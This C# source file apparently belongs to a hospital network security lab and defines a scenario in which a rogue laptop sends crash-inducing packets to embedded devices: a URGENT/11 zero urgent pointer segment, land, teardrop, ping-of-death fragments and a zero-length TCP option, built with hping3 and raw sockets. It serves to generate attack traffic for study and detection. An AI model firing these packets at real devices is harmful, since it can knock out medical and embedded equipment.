using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using Wardkeeper.Lab.Attacks.Packets;
using Wardkeeper.Lab.Hospital;
using Wardkeeper.Lab.Services;
using Wardkeeper.Lab.Site;

namespace Wardkeeper.Lab.Attacks.Floods;

/// <summary>A laptop sends packets on which the network stacks of embedded devices fell down: the shapes of URGENT/11, land, teardrop, the ping of death, and options without a length.</summary>
internal sealed class CrashPackets() : Scene("crash-packets",
    "A laptop sends a device packets on which embedded network stacks crash: urgent pointers of zero, overlapping fragments and their like.",
    "一台笔记本电脑向设备发送可致嵌入式协议栈崩溃的数据包：零紧急指针、重叠分片等。",
    "T1499.004", "T0814")
{
    private const byte EchoRequest = 8, Syn = 2;
    private static readonly string[] Shapes = ["urgent", "land", "teardrop", "ping-of-death", "tcp-options"];

    /// <inheritdoc/>
    public override IReadOnlyList<Requirement> Needs => [new("hping3", "hping3")];

    /// <inheritdoc/>
    public override async Task<SceneReport> RunAsync(SceneStage stage, CancellationToken cancel)
    {
        HospitalDevice target = stage.Dice.Of(Cast.Some(Cast.Inside(stage.Site), "nobody is there to be sent anything"));
        string[] shapes = stage.Dice.Some(Shapes, stage.Dice.Between(1, 3));
        int times = stage.Dice.Between(1, 4), port = stage.Dice.Of([22, 23, 80, 104, 443, 2575]);
        HostNamespace rogue = await stage.PlugAsync(RogueDevice.In(stage, target.Department), cancel);

        stage.Begin();
        foreach (string shape in shapes)
        {
            for (int time = 0; time < times; time++)
            {
                await SendAsync(stage, rogue, target.Ip, port, shape, cancel);
                await Task.Delay(stage.Dice.Time(100, 800), cancel);
            }
        }
        // What is sent in the target's own name is the laptop's by its card.
        return new SceneReport([AllOf(rogue)],
            [("attacker", rogue.Device.Ip.ToString()), ("attacker-mac", Network.CardTool.Text(rogue.Device.Mac)), ("target", target.Key), ("port", SceneStage.Text(port)), ("shapes", string.Join(' ', shapes)), ("times", SceneStage.Text(times))]);
    }

    private static async Task SendAsync(SceneStage stage, HostNamespace rogue, IPAddress target, int port, string shape, CancellationToken cancel)
    {
        string at = target.ToString();
        string[]? arguments = shape switch
        {
            // A segment with data whose urgent pointer is zero (CVE-2019-12255).
            "urgent" => ["-A", "-U", "-p", SceneStage.Text(port), "-d", SceneStage.Text(stage.Dice.Between(8, 64)), at],
            "land" => ["-S", "-a", at, "-p", SceneStage.Text(port), "-s", SceneStage.Text(port), "-k", at],
            _ => null,
        };
        if (arguments is not null)
        {
            await stage.RunAsync(rogue, "hping3", ["-n", "-q", "-c", "1", .. arguments], cancel);
            return;
        }
        ushort number = (ushort)stage.Dice.Between(1, ushort.MaxValue);
        byte[][] packets = shape switch
        {
            // The second fragment says something else of bytes that the first one has told.
            "teardrop" => [Fragment(rogue.Device.Ip, target, number, RawPacket.MoreFragments, Echo(stage.Dice, 40)), Fragment(rogue.Device.Ip, target, number, 2, stage.Dice.Bytes(24)), Fragment(rogue.Device.Ip, target, number, 5, stage.Dice.Bytes(16))],
            // It reaches beyond 65,535 bytes.
            "ping-of-death" => [Fragment(rogue.Device.Ip, target, number, RawPacket.MoreFragments, Echo(stage.Dice, 1400)), Fragment(rogue.Device.Ip, target, number, 0x1FFF, stage.Dice.Bytes(stage.Dice.Between(100, 900)))],
            _ => [Open(rogue.Device.Ip, target, stage.Dice.Between(20_000, 60_000), port)],
        };
        using Socket raw = rogue.Socket(SocketType.Raw, ProtocolType.Raw);
        foreach (byte[] packet in packets) await raw.SendToAsync(packet, SocketFlags.None, new IPEndPoint(target, 0), cancel);
    }

    /// <summary>The begin of an echo request, checksum and all.</summary>
    private static byte[] Echo(Dice dice, int length)
    {
        byte[] echo = dice.Bytes(length);
        (echo[0], echo[1], echo[2], echo[3]) = (EchoRequest, 0, 0, 0);
        BinaryPrimitives.WriteUInt16BigEndian(echo.AsSpan(2), RawPacket.Sum(echo));
        return echo;
    }

    /// <summary>A fragment (RFC 791, section 3.1): flags and offset as they stand in the header.</summary>
    private static byte[] Fragment(IPAddress from, IPAddress to, ushort number, int flagsAndOffset, byte[] payload) => RawPacket.Ip(from, to, ProtocolType.Icmp, number, flagsAndOffset, payload);

    /// <summary>A SYN whose option claims a length of zero (RFC 9293, section 3.1).</summary>
    private static byte[] Open(IPAddress from, IPAddress to, int source, int port) =>
        RawPacket.Ip(from, to, ProtocolType.Tcp, 0, 0, RawPacket.Tcp(from, to, (source, port), (uint)source * 7919u, 0, Syn, [3, 0, 0, 0], []));
}
